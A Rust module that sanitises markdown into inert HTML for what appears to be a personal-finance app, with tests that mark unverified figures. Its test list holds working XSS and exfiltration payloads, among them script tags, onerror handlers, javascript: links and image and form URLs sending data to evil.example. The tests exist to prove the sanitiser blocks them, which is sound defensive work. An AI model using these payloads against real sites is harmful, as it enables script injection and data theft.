//! Markdown as HTML that cannot do anything: no script, no request by itself.
//!
//! Raw HTML becomes text, images become their alternative text (an image is a request, and a
//! request can carry a person's figures away), and only links to `https` or to the app itself
//! stay links. ammonia then lets through nothing but the tags below, whatever came before it.

use std::{
    collections::{HashMap, HashSet, VecDeque},
    ops::Range,
    sync::LazyLock,
};

use ammonia::{Builder, UrlRelative};
use pulldown_cmark::{CowStr, Event, HeadingLevel, LinkType, Options, Parser, Tag, TagEnd, html};

static SANITISER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let tags = [
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "em",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "li",
        "mark",
        "ol",
        "p",
        "pre",
        "span",
        "strong",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ];
    let mut builder = Builder::empty();
    builder
        .tags(HashSet::from(tags))
        .tag_attributes(HashMap::from([
            ("a", HashSet::from(["href"])),
            ("mark", HashSet::from(["title"])),
            ("ol", HashSet::from(["start"])),
        ]))
        .allowed_classes(HashMap::from([("span", HashSet::from(["visually-hidden"]))]))
        .url_schemes(HashSet::from(["https"]))
        .url_relative(UrlRelative::PassThrough)
        .link_rel(Some("noopener noreferrer"));
    builder
});

/// Before and after a figure without a source. No markdown makes these tags: raw HTML is text.
const UNVERIFIED: (&str, &str) = (
    "<mark title=\"Not verified: no figure of your data says this\">",
    "<span class=\"visually-hidden\"> (not verified)</span></mark>",
);

/// Appends a markdown text as HTML; `unverified` are the ranges of its figures without a source.
pub(super) fn push(out: &mut String, source: &str, unverified: &[Range<usize>]) {
    let parser = Parser::new_ext(source, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH);
    let mut dirty = String::with_capacity(source.len() * 3 / 2);
    let harmless = Harmless { events: parser.into_offset_iter(), open_links: Vec::new() };
    if unverified.is_empty() {
        html::push_html(&mut dirty, harmless.map(|(event, _)| event));
    } else {
        let marked = Marked { events: harmless, waiting: VecDeque::new(), unverified };
        html::push_html(&mut dirty, marked);
    }
    *out += &SANITISER.clean(&dirty).to_string();
}

/// Turns what could act into text.
struct Harmless<'a, I: Iterator<Item = (Event<'a>, Range<usize>)>> {
    events: I,
    /// Whether each link that is open was kept; its end is treated alike.
    open_links: Vec<bool>,
}

impl<'a, I: Iterator<Item = (Event<'a>, Range<usize>)>> Iterator for Harmless<'a, I> {
    type Item = (Event<'a>, Range<usize>);

    fn next(&mut self) -> Option<Self::Item> {
        let nothing = || Event::Text(CowStr::Borrowed(""));
        let (event, place) = self.events.next()?;
        let event = match event {
            Event::Html(text) | Event::InlineHtml(text) => Event::Text(text),
            Event::Start(Tag::HtmlBlock) => Event::Start(Tag::Paragraph),
            Event::End(TagEnd::HtmlBlock) => Event::End(TagEnd::Paragraph),
            // The alternative text follows as events of its own.
            Event::Start(Tag::Image { .. }) | Event::End(TagEnd::Image) => nothing(),
            Event::Start(Tag::Link { link_type, dest_url, .. }) => {
                let is_kept = link_type != LinkType::Email && is_harmless_link(&dest_url);
                self.open_links.push(is_kept);
                if is_kept {
                    Event::Start(Tag::Link {
                        link_type,
                        dest_url,
                        title: CowStr::Borrowed(""),
                        id: CowStr::Borrowed(""),
                    })
                } else {
                    nothing()
                }
            }
            Event::End(TagEnd::Link) if !self.open_links.pop().unwrap_or(false) => nothing(),
            // The page's own headings are h1 and h2.
            Event::Start(Tag::Heading { level, .. }) => {
                Event::Start(Tag::Heading { level: lowered(level), id: None, classes: vec![], attrs: vec![] })
            }
            Event::End(TagEnd::Heading(level)) => Event::End(TagEnd::Heading(lowered(level))),
            other => other,
        };
        Some((event, place))
    }
}

/// Puts the mark of a figure without a source around it.
struct Marked<'a, 'u, I: Iterator<Item = (Event<'a>, Range<usize>)>> {
    events: I,
    /// Pieces of an event that was cut.
    waiting: VecDeque<Event<'a>>,
    unverified: &'u [Range<usize>],
}

impl<'a, I: Iterator<Item = (Event<'a>, Range<usize>)>> Iterator for Marked<'a, '_, I> {
    type Item = Event<'a>;

    fn next(&mut self) -> Option<Event<'a>> {
        if let Some(event) = self.waiting.pop_front() {
            return Some(event);
        }
        let (event, place) = self.events.next()?;
        let first = self.unverified.partition_point(|range| range.end <= place.start);
        let touching = self.unverified[first..].iter().take_while(|range| range.start < place.end);
        match &event {
            Event::Text(text) if !text.is_empty() => {
                self.waiting.extend(cut(text, &place, touching));
                self.waiting.pop_front()
            }
            Event::Code(_) if touching.count() > 0 => {
                self.waiting.extend([event, raw(UNVERIFIED.1)]);
                Some(raw(UNVERIFIED.0))
            }
            _ => Some(event),
        }
    }
}

/// A text with marks around what is touched; one that is not written as it reads (an entity) is
/// marked whole.
fn cut<'a, 'r>(
    text: &CowStr<'a>,
    place: &Range<usize>,
    touching: impl Iterator<Item = &'r Range<usize>>,
) -> Vec<Event<'a>> {
    let is_verbatim = text.len() == place.len();
    let plain = |range: Range<usize>| Event::Text(text[range].to_owned().into());
    let (mut events, mut done) = (Vec::new(), 0);
    for range in touching {
        let inner = range.start.max(place.start) - place.start..range.end.min(place.end) - place.start;
        let inner = if is_verbatim { inner } else { 0..text.len() };
        if inner.start < done || text.get(inner.clone()).is_none() {
            continue;
        }
        events.extend([plain(done..inner.start), raw(UNVERIFIED.0), plain(inner.clone()), raw(UNVERIFIED.1)]);
        done = inner.end;
    }
    events.push(plain(done..text.len()));
    events
}

fn raw(html: &'static str) -> Event<'static> {
    Event::InlineHtml(CowStr::Borrowed(html))
}

/// An `https` address, or a path of this app. `//host` and `/\host` lead elsewhere.
fn is_harmless_link(address: &str) -> bool {
    let is_https = address.get(..8).is_some_and(|scheme| scheme.eq_ignore_ascii_case("https://"));
    let is_own_path = address.starts_with('/') && !address[1..].starts_with(['/', '\\']);
    (is_https || is_own_path) && !address.chars().any(|c| c.is_control() || c == '\\')
}

fn lowered(level: HeadingLevel) -> HeadingLevel {
    match level {
        HeadingLevel::H1 => HeadingLevel::H3,
        HeadingLevel::H2 => HeadingLevel::H4,
        HeadingLevel::H3 => HeadingLevel::H5,
        HeadingLevel::H4 | HeadingLevel::H5 | HeadingLevel::H6 => HeadingLevel::H6,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rendered(source: &str) -> String {
        let mut out = String::new();
        push(&mut out, source, &[]);
        out.trim().to_owned()
    }

    fn marked(source: &str, unverified: &[&str]) -> String {
        let ranges: Vec<_> = unverified
            .iter()
            .map(|figure| {
                let start = source.find(figure).unwrap();
                start..start + figure.len()
            })
            .collect();
        let mut out = String::new();
        push(&mut out, source, &ranges);
        out.trim().replace(UNVERIFIED.0, "{").replace(UNVERIFIED.1, "}")
    }

    #[test]
    fn a_figure_without_a_source_is_marked_where_it_stands() {
        assert_eq!(marked("You spent $5 and $7.", &["$5"]), "<p>You spent {$5} and $7.</p>");
        assert_eq!(marked("**$5**, $7", &["$5", "$7"]), "<p><strong>{$5}</strong>, {$7}</p>");
        assert_eq!(marked("a `5 + 5`", &["5 + 5"]), "<p>a {<code>5 + 5</code>}</p>");
        assert_eq!(marked("a&#49;b", &["&#49;"]), "<p>a{1}b</p>");
    }

    #[test]
    fn a_text_cannot_mark_or_unmark_a_figure() {
        let html = rendered("<mark title=\"x\">5</mark> </mark> <span class=\"visually-hidden\">");
        assert!(!html.contains("<mark") && !html.contains("</mark") && !html.contains("<span"), "{html}");
    }

    #[test]
    fn marks_at_odd_places_do_no_harm() {
        for source in HOSTILE {
            for start in 0..source.len() {
                let mut out = String::new();
                push(&mut out, source, &[start..start + 1, start + 1..source.len() + 9]);
                assert!(!out.contains("<script") && !out.contains("<img"), "{out}");
            }
        }
    }

    /// The tags of a text in which `<` opens nothing else: ammonia escapes every other one.
    fn tags(html: &str) -> Vec<String> {
        html.split('<').skip(1).map(|rest| rest.split('>').next().unwrap_or_default().to_owned()).collect()
    }

    fn assert_harmless(source: &str) {
        let html = rendered(source);
        for tag in tags(&html) {
            let name: String =
                tag.chars().skip_while(|c| *c == '/').take_while(char::is_ascii_alphanumeric).collect();
            assert!(
                !matches!(
                    name.as_str(),
                    "script"
                        | "img"
                        | "iframe"
                        | "svg"
                        | "style"
                        | "form"
                        | "input"
                        | "object"
                        | "link"
                        | "meta"
                        | "base"
                        | "video"
                        | "audio"
                ),
                "{name} in {html} from {source}"
            );
            let attributes = tag.split_once(' ').map_or("", |(_, rest)| rest);
            for (index, name) in attributes.split('"').step_by(2).enumerate() {
                let name = name.trim().trim_end_matches('=');
                assert!(
                    matches!(name, "" | "href" | "rel" | "start" | "/"),
                    "attribute {name} ({index}) in {html} from {source}"
                );
            }
            if let Some(address) = attributes.split("href=\"").nth(1) {
                let address = address.split('"').next().unwrap_or_default();
                assert!(is_harmless_link(address), "{address} from {source}");
            }
        }
    }

    const HOSTILE: &[&str] = &[
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "![exfil](https://evil.example/p.png?d=secret)",
        "[![a](https://evil.example/a.png)](javascript:alert(1))",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](java&#115;cript:alert(1))",
        "[click](\u{1}javascript:alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        "[click](vbscript:msgbox(1))",
        "[click](//evil.example)",
        "[click](/\\evil.example)",
        "[click](\\\\evil.example)",
        "[ref]: javascript:alert(1)\n\n[ref]",
        "<javascript:alert(1)>",
        "<https://fine.example/\" onmouseover=\"alert(1)>",
        "[a](https://fine.example \"title\\\" onmouseover=alert(1)\")",
        "<a href=\"https://fine.example\" onclick=alert(1)>x</a>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext></p><img src=x onerror=alert(1)>",
        "<style>@import url(//evil.example)</style>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<form action=//evil.example><input name=x></form>",
        "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
        "# <img src=x onerror=alert(1)> {#id .class onclick=x}",
        "| a |\n|--|\n| <img src=x onerror=alert(1)> |",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "</textarea><script>alert(1)</script>",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "\u{202e}<script>alert(1)</script>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
    ];

    #[test]
    fn nothing_hostile_survives() {
        for source in HOSTILE {
            assert_harmless(source);
        }
    }

    #[test]
    fn nothing_hostile_survives_inside_other_markdown() {
        for source in HOSTILE {
            for wrapped in [
                format!("> {source}"),
                format!("- {source}\n- {source}"),
                format!("**{source}**"),
                format!("[{source}]({source})"),
                format!("`{source}` {source}"),
            ] {
                assert_harmless(&wrapped);
            }
        }
    }

    #[test]
    fn raw_html_is_shown_as_it_was_written() {
        assert_eq!(rendered("a <b>c</b>"), "<p>a &lt;b&gt;c&lt;/b&gt;</p>");
    }

    #[test]
    fn an_image_leaves_its_alternative_text() {
        assert_eq!(rendered("![a cat](https://cats.example/1.png)"), "<p>a cat</p>");
    }

    #[test]
    fn links_to_the_app_and_to_https_stay() {
        assert_eq!(
            rendered("[rows](/money?category=Food)"),
            "<p><a href=\"/money?category=Food\" rel=\"noopener noreferrer\">rows</a></p>"
        );
        assert!(rendered("[bank](https://bank.example)").contains("href=\"https://bank.example\""));
        assert_eq!(rendered("[plain](http://bank.example)"), "<p>plain</p>");
    }

    #[test]
    fn headings_stay_below_those_of_the_page() {
        assert_eq!(rendered("# Total"), "<h3>Total</h3>");
    }
}
